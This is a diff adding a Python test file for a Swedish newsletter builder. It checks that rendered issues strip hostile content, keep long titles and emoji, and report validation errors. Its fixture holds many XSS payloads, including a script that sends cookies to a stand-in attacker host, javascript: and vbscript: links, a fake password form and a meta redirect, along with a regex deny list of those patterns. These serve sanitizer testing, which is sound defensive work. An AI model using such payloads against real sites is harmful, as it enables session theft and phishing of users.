@@ -1,0 +1,169 @@
+"""Content not in the repository: hostile markup, long titles, emoji, errors; `issue check`."""
+
+from __future__ import annotations
+
+import re
+import shutil
+
+from newsletter.content import load_issue
+from newsletter.render import IssueRenderer
+
+HOSTILE_BODY = """\
+Vanlig text med **fetstil** och en [riktig länk](https://www.regeringen.se/).
+
+<script>document.location='https://evil.example.se/?c='+document.cookie</script>
+
+Inline <script>alert('xss')</script> och <img src=x onerror="alert(1)"> och
+<a href="javascript:alert(2)" onclick="alert(3)">klicka</a> och <iframe src="https://evil.example.se"></iframe>.
+
+[javascript-länk](javascript:alert(4)) [JaVaScRiPt](JAVASCRIPT:alert(5)) [tab](java&#9;script:alert(6))
+<javascript:alert(7)> [data](data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==)
+![pixel](data:image/png;base64,iVBORw0KGgo=) ![spårning](https://evil.example.se/p.gif "x")
+[vb](vbscript:msgbox(9)) [fil](file:///etc/passwd)
+
+<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(javascript:alert(10))">över allt</div>
+<style>body { display:none }</style>
+<span style="color:expression(alert(11))">css</span>
+<form action="https://evil.example.se"><input name="pw"></form>
+<meta http-equiv="refresh" content="0;url=https://evil.example.se">
+<object data="x.swf"></object><embed src="x.swf"><svg onload="alert(12)"><script>alert(13)</script></svg>
+<!-- <script>alert(14)</script> -->
+"""
+
+FORBIDDEN = [
+    r"<script", r"onerror", r"onclick", r"onload", r"javascript:", r"vbscript:", r"<iframe",
+    r"data:text", r"data:image", r"expression\(", r"position:fixed", r"<form", r"<input",
+    r"<meta http-equiv=\"refresh", r"<object", r"<embed", r"<svg", r"file:///", r"alert\(",
+    r"evil\.example\.se/\?c=", r"display:none }",
+]
+
+
+def add_hostile_issue(site) -> None:
+    items = site.root / "issues/2026-12/items"
+    (items / "99-fientlig.md").write_text(
+        "---\n"
+        'title: "<script>alert(\'titel\')</script>Farlig <img src=x onerror=alert(1)>rubrik"\n'
+        "area: bostad\nkind: remiss\nurl: https://www.boverket.se/\n"
+        "---\n" + HOSTILE_BODY, encoding="utf-8")
+    (items / "98-lang.md").write_text(
+        "---\ntitle: \"" + "Strandskyddsdispensärendehanteringsprocessförbättringsförslag" * 4
+        + " med en mycket lång rubrik som fortsätter och fortsätter över flera rader på "
+        "en telefon 🎉🏡🚆\"\narea: infrastruktur\nkind: utredning\n"
+        "url: https://www.trafikverket.se/resa-och-trafik/vag/" + "a" * 150 + "\n"
+        "---\nÄven brödtexten har ett långt ord: " + "Å" * 120 + " och en lång länk "
+        "https://www.regeringen.se/" + "b" * 150 + " 👍 ÅÄÖ åäö é ü ß „citat” – tankstreck.\n",
+        encoding="utf-8")
+
+
+def test_hostile_content_never_reaches_the_output(site):
+    add_hostile_issue(site)
+    site.cli("issue", "build", "2026-12")
+    build = site.root / "issues/2026-12/build"
+    renderer = IssueRenderer(site.settings, load_issue(site.settings, "2026-12"))
+    outputs = {
+        "issue.html": (build / "issue.html").read_text(encoding="utf-8"),
+        "issue.txt": (build / "issue.txt").read_text(encoding="utf-8"),
+        "issue.mjml": (build / "issue.mjml").read_text(encoding="utf-8"),
+        "web.html": renderer.web_version().html, "web.txt": renderer.web_version().text,
+    }
+    for name, text in outputs.items():
+        for pattern in FORBIDDEN:
+            assert not re.search(pattern, text, re.IGNORECASE), f"{pattern} in {name}"
+    html = outputs["issue.html"]
+    assert "Farlig rubrik" in html and "Farlig rubrik" in outputs["issue.txt"]
+    assert '<a href="https://www.regeringen.se/" rel="noopener"' in html
+    assert "<strong>fetstil</strong>" in html
+    # An image on https stays (with its alt text); every href is http(s), mailto or a token.
+    assert 'src="https://evil.example.se/p.gif"' in html
+    for href in re.findall(r'href="([^"]*)"', html):
+        assert re.match(r"(https?://|mailto:|#omrade-|__NL_[A-Z_]+__$)", href), href
+
+
+def test_long_titles_emoji_and_swedish_characters_survive(site):
+    add_hostile_issue(site)
+    site.cli("issue", "build", "2026-12")
+    build = site.root / "issues/2026-12/build"
+    html = (build / "issue.html").read_text(encoding="utf-8")
+    text = (build / "issue.txt").read_text(encoding="utf-8")
+    for part in (html, text):
+        assert "🎉🏡🚆" in part and "👍 ÅÄÖ åäö é ü ß „citat” – tankstreck." in part
+        assert "Å" * 120 in part
+        assert "Bostadsförsörjning" in part or "BOSTADSFÖRSÖRJNING" in part
+    assert "&#" not in html  # characters kept as UTF-8, not turned into entities
+
+
+def test_check_reports_errors_and_warnings_and_exits_non_zero(site):
+    add_hostile_issue(site)
+    items = site.root / "issues/2026-12/items"
+    (items / "trasig.md").write_text("---\ntitle: Fel område\narea: skola\n---\nText\n",
+                                     encoding="utf-8")
+    (items / "osaker.md").write_text(
+        "---\ntitle: Http\narea: kapital\nurl: http://www.kommuninvest.se/\n---\n"
+        "Se ![](https://www.kommuninvest.se/bild.png) och [här](http://example.se/).\n",
+        encoding="utf-8")
+    result = site.cli("issue", "check", "2026-12", ok=False)
+    assert result.exit_code != 0
+    out = result.stdout
+    assert re.search(r"FEL: .*trasig\.md \[area\]: unknown area 'skola' \(valid: medlemmar", out)
+    assert re.search(r"VARNING: .*osaker\.md \[url\]: link is not https", out)
+    assert re.search(r"VARNING: .*osaker\.md: 1 image\(s\) without alt text", out)
+    assert re.search(r"VARNING: .*osaker\.md: link is not https: http://example\.se/", out)
+    assert re.search(r"VARNING: .*99-fientlig\.md: raw HTML left out", out)
+    assert "1 fel" in out
+    assert len(result.stderr.strip().splitlines()) == 1
+
+
+def test_check_flags_an_issue_without_subject_items_or_preheader(site):
+    site.cli("issue", "new", "2027-02")
+    issue_md = site.root / "issues/2027-02/issue.md"
+    issue_md.write_text("---\nsubject: \"\"\n---\nLedare.\n", encoding="utf-8")
+    result = site.cli("issue", "check", "2027-02", ok=False)
+    assert result.exit_code != 0
+    assert "[subject]: missing subject" in result.stdout
+    assert "the issue has no items" in result.stdout
+    assert "no preheader" in result.stdout
+    assert "area bostad (Bostadsförsörjning) has no items" in result.stdout
+    build = site.cli("issue", "build", "2027-02", ok=False)
+    assert build.exit_code != 0 and "[subject]" in build.stderr
+
+
+def test_check_warns_about_size_over_90_kb(site):
+    items = site.root / "issues/2026-12/items"
+    for n in range(40):
+        shutil.copy(items / "04-strandskyddet-remiss.md", items / f"kopia-{n:02}.md")
+    result = site.cli("issue", "check", "2026-12")
+    assert "Gmail clips messages over about 102 KB" in result.stdout
+
+
+def test_bad_front_matter_is_one_line_naming_file_and_field(site):
+    items = site.root / "issues/2026-12/items"
+    (items / "datum.md").write_text("---\ntitle: X\narea: bostad\ndate: 31/12\n---\n",
+                                    encoding="utf-8")
+    result = site.cli("issue", "build", "2026-12", ok=False)
+    assert result.exit_code != 0
+    lines = result.stderr.strip().splitlines()
+    assert len(lines) == 1 and "datum.md [date]: bad date" in lines[0]
+    assert "Traceback" not in result.output
+
+
+def test_preview_as_a_contact_uses_their_variant_and_links(site):
+    from newsletter.models import Person, PersonArea, Position
+
+    with site.transaction() as session:
+        person = Person(email="anna.berg@example.se", name="Anna <Berg>")
+        session.add(person)
+        session.flush()
+        session.add_all([PersonArea(person_id=person.id, area="medlemmar"),
+                         Position(person_id=person.id, role="kommunchef")])
+        public_id = person.public_id
+    out = site.cli("issue", "preview", "2026-12", "--as", "anna.berg@example.se").stdout
+    html = (site.root / "issues/2026-12/build/preview.html").read_text(encoding="utf-8")
+    assert "preview.html" in out
+    assert "Kommunchefsnätverket" in html and "Höstmötet i Ånge" in html
+    assert "Nytt förslag om strandskyddet" not in html
+    assert "__NL_" not in html and "anna.berg@example.se" in html
+    assert f"https://nyhetsbrev.example.se/u/{public_id}." in html
+    missing = site.cli("issue", "preview", "2026-12", "--as", "ingen@example.se", ok=False)
+    assert missing.exit_code != 0 and "ingen@example.se" in missing.stderr
+    plain = site.cli("issue", "preview", "2026-12")
+    assert plain.exit_code == 0
